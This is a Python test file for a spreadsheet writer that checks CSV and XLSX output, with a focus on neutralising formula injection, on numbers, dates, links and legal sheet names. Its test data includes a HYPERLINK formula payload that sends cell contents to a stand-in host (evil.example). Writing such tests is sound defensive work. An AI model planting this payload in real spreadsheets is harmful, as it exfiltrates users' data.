"""The one writer of tables for people: each cell, written to CSV and XLSX and read back, is what it was; text that
a spreadsheet would run as a formula is marked as text; numbers stay numbers. No database."""

import csv
import io
import tempfile
from datetime import date, datetime, timezone
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from server.core import sheets

SHANGHAI = ZoneInfo("Asia/Shanghai")
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
PLAIN = ["张秀英", "1+1=2", "a=b", " =1+1", "'quoted", "", "13807312456"]


def read_csv(rows) -> list[list[str]]:
    return list(csv.reader(io.StringIO((sheets.BOM + sheets.csv_rows(rows)).decode("utf-8-sig"))))


def read_xlsx(tmp_path, rows, header=("题目",), title="表"):
    path = str(tmp_path / "book.xlsx")
    book = sheets.Book(path)
    sheet = book.add_sheet(title, list(header))
    for row in rows:
        sheet.append(row)
    book.close()
    return load_workbook(path)


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_quote_in_csv(text):
    assert read_csv([[text]]) == [["'" + text]]


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_written_as_it_is_in_csv(text):
    assert read_csv([[text, "x"]]) == [[text, "x"]]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_stays_intact_text_in_xlsx(tmp_path, text):
    cell = read_xlsx(tmp_path, [[text]]).active["A2"]
    # A carriage return is stored as Excel stores it, _x000D_, which openpyxl leaves as it is and Excel reads back.
    assert cell.data_type == "s" and unescape(cell.value) == text and cell.quotePrefix


@pytest.mark.parametrize("text", [t for t in PLAIN if t])
def test_other_text_is_plain_text_in_xlsx(tmp_path, text):
    cell = read_xlsx(tmp_path, [[text]]).active["A2"]
    assert cell.data_type == "s" and cell.value == text and not cell.quotePrefix


@pytest.mark.parametrize("number", [0, 7, -7, 2.5, -0.5, -1e-9])
def test_numbers_stay_numbers_negative_ones_too(tmp_path, number):
    assert read_csv([[number]]) == [[str(number)]]
    cell = read_xlsx(tmp_path, [[number]]).active["A2"]
    assert cell.data_type == "n" and cell.value == number and not cell.quotePrefix


@pytest.mark.parametrize("number", [10 ** 15, -10 ** 15, 12345678901234567, 10 ** 400])
def test_integers_with_more_digits_than_a_spreadsheet_keeps_are_text_with_every_digit(tmp_path, number):
    assert read_csv([[number]]) == [[str(number)]]
    cell = read_xlsx(tmp_path, [[number, 999_999_999_999_999]]).active["A2"]
    assert cell.data_type == "s" and cell.value == str(number)
    assert read_xlsx(tmp_path, [[999_999_999_999_999]]).active["A2"].value == 999_999_999_999_999  # 15: a number


def test_titles_are_neutralised_like_answers(tmp_path):
    assert read_csv([["=题目"]]) == [["'=题目"]]
    cell = read_xlsx(tmp_path, [], header=["=题目", "姓名"]).active["A1"]
    assert cell.value == "=题目" and cell.data_type == "s" and cell.quotePrefix and cell.font.bold


def test_dates_and_times_are_excel_dates_in_xlsx_and_readable_text_in_csv(tmp_path):
    visit = sheets.wall_time(datetime(2025, 3, 18, 1, 30, tzinfo=timezone.utc), SHANGHAI)
    row = [visit, date(1958, 3, 12), date(1058, 3, 12), True, None]
    assert read_csv([row]) == [["2025-03-18 09:30:00", "1958-03-12", "1058-03-12", "是", ""]]
    a, b, c, d = read_xlsx(tmp_path, [row], header=["甲", "乙", "丙", "丁", "戊"]).active[2][:4]
    assert a.value == datetime(2025, 3, 18, 9, 30) and a.is_date and a.number_format == sheets.DATETIME_FORMAT
    assert b.value == datetime(1958, 3, 12) and b.is_date and b.number_format == sheets.DATE_FORMAT
    assert c.value == "1058-03-12" and not c.is_date  # before Excel's calendar begins
    assert d.value == "是"


def test_a_time_without_an_offset_is_refused_rather_than_guessed():
    with pytest.raises(ValueError):
        sheets.wall_time(datetime(2025, 3, 18, 9, 30), SHANGHAI)


@pytest.mark.parametrize("text, fmt, cell", [
    ("2025-04-01", "date", date(2025, 4, 1)),
    ("2025-03-18T01:42:10Z", "date-time", datetime(2025, 3, 18, 9, 42, 10)),
    ("2025-03-18T09:42:10+08:00", "date-time", datetime(2025, 3, 18, 9, 42, 10)),
    ("2025-03-18T09:42:10", "date-time", datetime(2025, 3, 18, 9, 42, 10)),  # read on the station's clock
    ("下周二", "date", "下周二"),
    ("=1+1", "date-time", "=1+1"),  # stays text, and the writer neutralises it
])
def test_date_answers_become_dates_on_the_station_clock(text, fmt, cell):
    assert sheets.time_answer(text, fmt, SHANGHAI) == cell


def test_a_link_leads_to_a_file_beside_the_workbook(tmp_path):
    link = sheets.Link("photos/ab.jpg\nphotos/cd.jpg", "photos/ab.jpg")
    assert read_csv([[link, sheets.Link("=x", "photos/x.jpg")]]) == [["photos/ab.jpg\nphotos/cd.jpg", "'=x"]]
    cell = read_xlsx(tmp_path, [[link]]).active["A2"]
    assert cell.value == link.text and cell.hyperlink.target.replace("\\", "/") == "photos/ab.jpg"


def test_anything_else_is_refused_rather_than_written_as_its_repr(tmp_path):
    with pytest.raises(TypeError):
        sheets.csv_rows([[{"a": 1}]])
    book = sheets.Book(str(tmp_path / "book.xlsx"))
    with pytest.raises(TypeError):
        book.add_sheet("表", ["题目"]).append([["a"]])
    book.discard()


def test_a_workbook_given_up_leaves_nothing_in_the_temporary_folder(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # where xlsxwriter keeps each sheet's rows
    book = sheets.Book(str(tmp_path / "book.xlsx"))
    for title in ("提交", "家庭成员"):
        book.add_sheet(title, ["题目"]).append(["张秀英"])
    assert len(list(tmp_path.iterdir())) == 2
    book.discard()
    assert list(tmp_path.iterdir()) == []


def test_sheet_names_are_made_legal_and_unique_from_any_title(tmp_path):
    path = str(tmp_path / "names.xlsx")
    book = sheets.Book(path)
    titles = ["家庭成员", "家庭成员", "'引号'", "History", "a/b:c*d?[e]", "😀" * 40, "", "ＡＢ", "ab", "AB"]
    for title in titles:
        book.add_sheet(title, ["x"])
    book.close()
    names = load_workbook(path).sheetnames
    assert names[:5] == ["家庭成员", "家庭成员_", "引号", "History_", "abcde"]
    assert len(names[5].encode("utf-16-le")) // 2 <= 31 and names[6] == "表"
    assert names[8:] == ["ab", "AB_"]  # Excel compares sheet names without case
